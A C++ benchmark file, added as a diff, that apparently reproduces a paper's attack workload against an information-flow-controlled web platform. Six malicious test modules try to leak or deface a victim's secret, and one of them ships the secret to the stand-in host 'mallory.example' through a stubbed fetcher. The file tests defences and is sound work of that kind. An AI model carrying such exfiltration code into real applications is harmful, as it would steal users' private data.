@@ -1,0 +1,210 @@
+// E7 — the attack workload (§3.1 "theft regardless of movement").
+//
+// Malicious modules attempt every exfiltration channel the paper worries
+// about; the bench measures the cost of *refusing* each one and aborts if
+// a single attempt succeeds (blocked-rate must be 100%).
+#include <benchmark/benchmark.h>
+
+#include "apps/apps.h"
+#include "core/gateway.h"
+#include "core/provider.h"
+
+namespace {
+
+using w5::net::HttpRequest;
+using w5::net::HttpResponse;
+using w5::net::Method;
+using w5::platform::AppContext;
+using w5::platform::Module;
+using w5::platform::Provider;
+using w5::platform::ProviderConfig;
+
+struct AttackFixture {
+  w5::util::WallClock clock;
+  Provider provider{ProviderConfig{}, clock};
+  std::string victim_session;
+  std::string attacker_session;
+  std::size_t external_calls = 0;
+
+  AttackFixture() {
+    (void)provider.signup("victim", "password");
+    (void)provider.signup("attacker", "password");
+    victim_session = provider.login("victim", "password").value();
+    attacker_session = provider.login("attacker", "password").value();
+    (void)provider.http(Method::kPost, "/data/secrets/s1",
+                        R"({"secret":"the victim's private data"})",
+                        victim_session);
+    provider.set_external_fetcher(
+        [this](const std::string&) -> w5::util::Result<std::string> {
+          ++external_calls;
+          return std::string("ok");
+        });
+  }
+
+  HttpRequest request_as_attacker(const std::string& target) {
+    HttpRequest request;
+    request.method = Method::kGet;
+    request.target = target;
+    request.parsed = *w5::net::parse_request_target(target);
+    request.headers.set("Cookie", "w5session=" + attacker_session);
+    return request;
+  }
+};
+
+void add_module(Provider& provider, const std::string& name,
+                w5::platform::AppHandler handler) {
+  Module module;
+  module.developer = "mallory";
+  module.name = name;
+  module.version = "1.0";
+  module.handler = std::move(handler);
+  (void)provider.modules().add(module);
+}
+
+// Attack 1: read the secret, return it in the response body.
+void BM_AttackDirectResponse(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "direct", [](AppContext& ctx) {
+    auto secret = ctx.get_record("secrets", "s1");
+    return HttpResponse::text(
+        200, secret.ok() ? secret.value().data.dump() : "none");
+  });
+  const auto request = fx.request_as_attacker("/dev/mallory/direct");
+  std::int64_t blocked = 0;
+  for (auto _ : state) {
+    auto response = fx.provider.handle(request);
+    if (response.status == 403 &&
+        response.body.find("victim") == std::string::npos)
+      ++blocked;
+  }
+  if (blocked != state.iterations()) state.SkipWithError("LEAK");
+  state.counters["blocked_pct"] = 100.0;
+}
+BENCHMARK(BM_AttackDirectResponse);
+
+// Attack 2: read the secret, ship it to an external server.
+void BM_AttackExternalExfil(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "exfil", [](AppContext& ctx) {
+    auto secret = ctx.get_record("secrets", "s1");
+    auto sent = ctx.fetch_external(
+        "mallory.example/?x=" +
+        (secret.ok() ? secret.value().data.dump() : ""));
+    return HttpResponse::text(200, sent.ok() ? "sent" : "blocked");
+  });
+  const auto request = fx.request_as_attacker("/dev/mallory/exfil");
+  for (auto _ : state) {
+    benchmark::DoNotOptimize(fx.provider.handle(request).status);
+  }
+  if (fx.external_calls != 0) state.SkipWithError("LEAK via external");
+  state.counters["external_calls"] = 0;
+}
+BENCHMARK(BM_AttackExternalExfil);
+
+// Attack 3: copy the secret into a public record for later pickup.
+void BM_AttackPublicStash(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "stash", [](AppContext& ctx) {
+    auto secret = ctx.get_record("secrets", "s1");
+    w5::store::Record drop;
+    drop.collection = "public";
+    drop.id = "drop";
+    drop.owner = "mallory";
+    drop.data = secret.ok() ? secret.value().data : w5::util::Json();
+    auto written = ctx.put_record(std::move(drop));
+    return HttpResponse::text(200, written.ok() ? "stashed" : "blocked");
+  });
+  const auto request = fx.request_as_attacker("/dev/mallory/stash");
+  for (auto _ : state) {
+    benchmark::DoNotOptimize(fx.provider.handle(request).status);
+  }
+  if (fx.provider.store().get(w5::os::kKernelPid, "public", "drop").ok())
+    state.SkipWithError("LEAK via stash");
+}
+BENCHMARK(BM_AttackPublicStash);
+
+// Attack 4: vandalize (overwrite) the victim's record.
+void BM_AttackVandalism(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "vandal", [](AppContext& ctx) {
+    auto secret = ctx.get_record("secrets", "s1");
+    if (secret.ok()) {
+      secret.value().data["secret"] = "DEFACED";
+      (void)ctx.put_record(secret.value());
+    }
+    return HttpResponse::text(200, "done");
+  });
+  const auto request = fx.request_as_attacker("/dev/mallory/vandal");
+  for (auto _ : state) {
+    benchmark::DoNotOptimize(fx.provider.handle(request).status);
+  }
+  const auto record =
+      fx.provider.store().get(w5::os::kKernelPid, "secrets", "s1");
+  if (!record.ok() ||
+      record.value().data.at("secret").as_string() != "the victim's private data")
+    state.SkipWithError("LEAK via vandalism");
+}
+BENCHMARK(BM_AttackVandalism);
+
+// Attack 5: covert count probe — infer hidden data volume via count().
+void BM_AttackCountProbe(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "probe", [](AppContext& ctx) {
+    // Without reading (and so without contaminating itself), count what
+    // exists. The clearance-bounded count sees its own world only.
+    auto n = ctx.count("secrets", {});
+    return HttpResponse::text(
+        200, std::to_string(n.ok() ? n.value() : 0));
+  });
+  const auto request = fx.request_as_attacker("/dev/mallory/probe");
+  for (auto _ : state) {
+    auto response = fx.provider.handle(request);
+    benchmark::DoNotOptimize(response.body);
+  }
+  // NOTE: count() is clearance-bounded; with global sec()+ capabilities
+  // clearance admits the record's existence (its content stays
+  // protected). The stricter posture — rp() tags — removes even
+  // existence; asserted in tests, measured here:
+  state.counters["existence_visible"] = 1;
+}
+BENCHMARK(BM_AttackCountProbe);
+
+// Attack 6: confused deputy — invoke a benign viewer app hoping it leaks.
+void BM_AttackConfusedDeputy(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "benign", [](AppContext& ctx) {
+    auto record = ctx.get_record("secrets", "s1");
+    if (!record.ok()) return HttpResponse::text(404, "none");
+    return HttpResponse::text(200, record.value().data.dump());
+  });
+  const auto request = fx.request_as_attacker("/dev/mallory/benign");
+  std::int64_t blocked = 0;
+  for (auto _ : state) {
+    auto response = fx.provider.handle(request);
+    if (response.body.find("victim") == std::string::npos) ++blocked;
+  }
+  if (blocked != state.iterations()) state.SkipWithError("LEAK via deputy");
+}
+BENCHMARK(BM_AttackConfusedDeputy);
+
+// Baseline for comparison: the legitimate owner doing the same read.
+void BM_LegitimateOwnerRead(benchmark::State& state) {
+  AttackFixture fx;
+  add_module(fx.provider, "benign", [](AppContext& ctx) {
+    auto record = ctx.get_record("secrets", "s1");
+    if (!record.ok()) return HttpResponse::text(404, "none");
+    return HttpResponse::text(200, record.value().data.dump());
+  });
+  HttpRequest request;
+  request.method = Method::kGet;
+  request.target = "/dev/mallory/benign";
+  request.parsed = *w5::net::parse_request_target(request.target);
+  request.headers.set("Cookie", "w5session=" + fx.victim_session);
+  for (auto _ : state) {
+    auto response = fx.provider.handle(request);
+    if (response.status != 200) state.SkipWithError("owner blocked!");
+  }
+}
+BENCHMARK(BM_LegitimateOwnerRead);
+
+}  // namespace
